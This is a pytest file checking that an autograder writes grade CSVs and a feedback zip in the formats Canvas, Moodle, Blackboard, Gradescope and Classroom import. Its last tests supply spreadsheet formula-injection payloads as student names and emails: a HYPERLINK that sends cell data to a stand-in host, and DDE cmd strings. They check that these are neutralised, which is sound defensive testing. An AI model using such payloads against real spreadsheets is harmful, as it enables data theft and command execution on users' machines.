"""Does each LMS grade file have exactly the columns its LMS reads, and a student's row as that LMS imports it?"""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from autograder.deliver.intake import Intake, Submission
from autograder.deliver.routes import lms_grades

NOW = datetime(2024, 1, 31, 12, 0, tzinfo=timezone.utc)
MAX = "47"  # mha's most points: 40 from its automatic checks, 7 from its written answers (points.toml)


def summary_row(
    key: str, name: str, student_id: str, score: str, status: str = "graded", email: str = "", total: str | None = None
) -> dict:
    """A row as summary.summary_rows gives it (only the columns the writers read matter)."""
    return {
        "key": key,
        "name": name,
        "student_id": student_id,
        "email": email,
        "status": status,
        "reason": "",
        "score": score,
        "max_score": "40" if status == "graded" else "",
        "total": total if total is not None else score,  # the written answers' points given: score + written
        "mistakes": "pe_cos_exponent" if score == "37.37" else "",
    }


def write(tmp_path: Path, mha, source: str, rows: list[dict], column_id: str = "", submitted_at: str = ""):
    subs = [
        Submission(row["key"], row["name"], row["student_id"], tmp_path, source, submitted_at=submitted_at)
        for row in rows
    ]
    for row in rows:
        (tmp_path / "students" / row["key"]).mkdir(parents=True, exist_ok=True)
        (tmp_path / "students" / row["key"] / "feedback.html").write_text(f"<p>{row['name']}</p>")
    intake = Intake(source, subs, [])
    written = lms_grades.write_lms_grades(intake, mha, tmp_path, rows, column_id)
    return written


def lines(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.fixture(autouse=True)
def fixed_clock(monkeypatch):
    class Clock(datetime):
        @classmethod
        def now(cls, tz=None):
            return NOW

    monkeypatch.setattr(lms_grades, "datetime", Clock)


def test_canvas_gradebook_import(tmp_path, mha):
    """Canvas: Student, ID, SIS User ID, SIS Login ID, Section, '<assignment> (<id>)', the Points Possible row, an empty grade for the kit's failure."""
    rows = [summary_row("doejane-12345", "doejane", "12345", "37.37"), summary_row("x-2", "x", "2", "", "error")]
    written = write(tmp_path, mha, "canvas", rows, column_id="678")
    assert lines(tmp_path / "canvas_grades.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "mha (678)"],
        ["    Points Possible", "", "", "", "", MAX],
        ["doejane", "12345", "", "", "", "37.37"],
        ["x", "2", "", "", "", ""],
    ]
    assert written.paths == [tmp_path / "canvas_grades.csv"]
    assert any("left empty" in note and "x" in note for note in written.notes)
    written = write(tmp_path, mha, "canvas", rows[:1])
    assert lines(tmp_path / "canvas_grades.csv")[0][-1] == "mha"
    assert any("--lms-column-id" in note for note in written.notes)


def test_moodle_grading_worksheet_and_feedback_zip(tmp_path, mha):
    """Moodle: the worksheet's columns as Moodle downloads them, 'Participant <id>', and feedback folders its zip importer reads."""
    rows = [summary_row("Jane_Doe-1234567", "Jane Doe", "1234567", "37.37", email="jane@example.org")]
    write(tmp_path, mha, "moodle", rows, submitted_at="2024-01-30T10:00:00")
    assert lines(tmp_path / "moodle_grades.csv") == [
        lms_grades.MOODLE_COLUMNS,
        [
            "Participant 1234567",
            "Jane Doe",
            "jane@example.org",
            "Submitted for grading",
            "37.37",
            MAX,
            "Yes",
            "Tuesday, 30 January 2024, 10:00 AM",
            "Wednesday, 31 January 2024, 12:00 PM",
            f"mha: 37.37 of {MAX} points. Known mistakes: pe_cos_exponent. Your feedback page is attached.",
        ],
    ]
    assert lms_grades.MOODLE_COLUMNS == [
        "Identifier",
        "Full name",
        "Email address",
        "Status",
        "Grade",
        "Maximum Grade",
        "Grade can be changed",
        "Last modified (submission)",
        "Last modified (grade)",
        "Feedback comments",
    ]
    with zipfile.ZipFile(tmp_path / "moodle_feedback.zip") as archive:
        assert archive.namelist() == ["Jane Doe_1234567_assignfeedback_file_/feedback.html"]
        assert archive.read(archive.namelist()[0]) == b"<p>Jane Doe</p>"


def test_moodle_folder_names_split_as_moodles_importer_splits_them(tmp_path, mha):
    """Does a name holding '_' still give Moodle's importer the participant id as the second of its five parts?"""
    write(tmp_path, mha, "moodle", [summary_row("k", "Ann_Lee", "42", "40")])
    with zipfile.ZipFile(tmp_path / "moodle_feedback.zip") as archive:
        (name,) = archive.namelist()
    folder = name.split("/")[0]
    info = folder.split("_", 4)  # PHP's explode('_', $pathpart, 5) in importziplib.php
    assert info[1:4] == ["42", "assignfeedback", "file"] and info[0] == "Ann Lee"


@pytest.mark.skipif(
    shutil.which("php") is None,
    reason="PHP is not installed (apt-get install php-cli): Moodle's own parsing is not run",
)
def test_moodle_reads_the_dates_and_folders_with_php(tmp_path, mha):
    """With PHP, as Moodle runs it: does strtotime read 'Last modified (grade)' back, and explode find the participant id?"""
    write(tmp_path, mha, "moodle", [summary_row("k", "Jane Doe", "1234567", "40")])
    stamp = lines(tmp_path / "moodle_grades.csv")[1][8]
    with zipfile.ZipFile(tmp_path / "moodle_feedback.zip") as archive:
        folder = archive.namelist()[0].split("/")[0]
    script = (
        'date_default_timezone_set("UTC"); $row = str_getcsv($argv[1]); '
        'echo strtotime($argv[2]), " ", substr("Participant 1234567", strlen("Participant ")), " ", explode("_", $argv[3], 5)[1];'
    )
    done = subprocess.run(["php", "-r", script, "x", stamp, folder], capture_output=True, text=True, check=True)
    assert done.stdout == f"{int(NOW.timestamp())} 1234567 1234567"


def test_blackboard_grade_centre_upload(tmp_path, mha):
    """Blackboard: every value quoted, Username, and '<column> [Total Pts: 47] |<column id>'."""
    rows = [
        summary_row("Jane_Doe-jdoe", "Jane Doe", "jdoe", "37.37"),
        summary_row("amy", "amy", "amy", "0", "not graded"),
    ]
    write(tmp_path, mha, "blackboard", rows, column_id="664617")
    text = (tmp_path / "blackboard_grades.csv").read_text()
    assert text.splitlines() == [
        f'"Last Name","First Name","Username","mha [Total Pts: {MAX}] |664617"',
        '"Doe","Jane","jdoe","37.37"',
        '"amy","","amy","0"',
    ]


def test_gradescope_and_classroom_keyed_by_their_ids(tmp_path, mha):
    """Gradescope by SID and email; Classroom by GitHub login."""
    write(tmp_path, mha, "gradescope", [summary_row("Jane_Doe-111", "Jane Doe", "111", "40", email="jane@example.edu")])
    assert lines(tmp_path / "gradescope_grades.csv") == [
        ["Name", "SID", "Email", "Total Score", "Max Points", "Status"],
        ["Jane Doe", "111", "jane@example.edu", "40", MAX, "graded"],
    ]
    write(tmp_path, mha, "classroom", [summary_row("octocat", "octocat", "octocat", "37.37")])
    assert lines(tmp_path / "classroom_grades.csv") == [
        ["assignment_name", "github_username", "points_awarded", "points_available"],
        ["mha", "octocat", "37.37", MAX],
    ]


def test_a_plain_folder_gets_no_lms_file(tmp_path, mha):
    """Is nothing written for a folder no LMS made?"""
    assert write(tmp_path, mha, "folders", [summary_row("a", "a", "", "40")]) is None
    assert sorted(p.name for p in tmp_path.iterdir()) == ["students"]


def test_blackboard_makes_each_part_of_a_name_inert_after_splitting_it(tmp_path, mha):
    """Mallory names herself 'Mallory =HYPERLINK(...)': is Last Name the formula made inert, First Name 'Mallory'?"""
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    rows = [
        summary_row("mallory", f"Mallory {hyperlink}", "mal", "0"),
        summary_row("eve", "=cmd|' /C calc'!A0 Eve", "-eve", "0"),
        summary_row("jane", "Jane Doe", "jdoe", "40"),
    ]
    written = write(tmp_path, mha, "blackboard", rows)
    assert lines(tmp_path / "blackboard_grades.csv")[1:] == [
        ["'" + hyperlink, "Mallory", "mal", "0"],
        ["Eve", "'=cmd|' /C calc'!A0", "'-eve", "0"],
        ["Doe", "Jane", "jdoe", "40"],
    ]
    assert any("1 ids start with a character a spreadsheet would run" in n and "-eve" in n for n in written.notes)


@pytest.mark.parametrize("source", ["canvas", "moodle", "gradescope", "classroom"])
def test_every_lms_file_makes_the_exports_text_inert_and_keeps_the_kits_numbers(tmp_path, mha, source):
    """A name, id and email that a spreadsheet would run: is each written after a ', while the grade and the
    most points stay the numbers the kit computed, and the honest student's row is as before?"""
    rows = [
        summary_row("ann", "@SUM(1+1)", "+1", "37.37", email="-2+3+cmd|' /C calc'!A0"),
        summary_row("jane", "Jane Doe", "12345", "40", email="jane@example.edu"),
    ]
    write(tmp_path, mha, source, rows)
    ann, jane = (dict(zip(lines(tmp_path / f"{source}_grades.csv")[0], line)) for line in _students(tmp_path, source))
    shown = {k: v for k, v in ann.items() if v.lstrip("'") in ("@SUM(1+1)", "+1", "-2+3+cmd|' /C calc'!A0")}
    assert shown and all(value.startswith("'") for value in shown.values())
    grades = {"canvas": "mha", "moodle": "Grade", "gradescope": "Total Score", "classroom": "points_awarded"}
    assert (ann[grades[source]], jane[grades[source]]) == ("37.37", "40")
    assert "Jane Doe" in jane.values() or source == "classroom"


def _students(tmp_path: Path, source: str) -> list[list[str]]:
    rows = lines(tmp_path / f"{source}_grades.csv")[1:]
    return rows[1:] if source == "canvas" else rows  # Canvas's second row is "Points Possible"


def test_written_answers_without_points_leave_the_grade_empty(tmp_path, mha):
    """Until a person has given every written answer its points, is the LMS's grade left empty (never the automatic
    score, which would count the written answers as 0), with a note saying how to complete it?"""
    assert sum(mha.written.values()) == 7 and sum(mha.points.values()) == 40
    rows = [summary_row("doejane-12345", "doejane", "12345", "37.37", total=""), summary_row("ann-1", "ann", "1", "40")]
    written = write(tmp_path, mha, "canvas", rows, column_id="678")
    assert [line[-1] for line in lines(tmp_path / "canvas_grades.csv")[2:]] == ["", "40"]
    assert any("doejane" in note and "--manual-points" in note for note in written.notes)
    write(tmp_path, mha, "moodle", rows)
    comment = lines(tmp_path / "moodle_grades.csv")[1][-1]
    assert "37.37 of 40 points from the automatic checks" in comment and "graded by hand" in comment
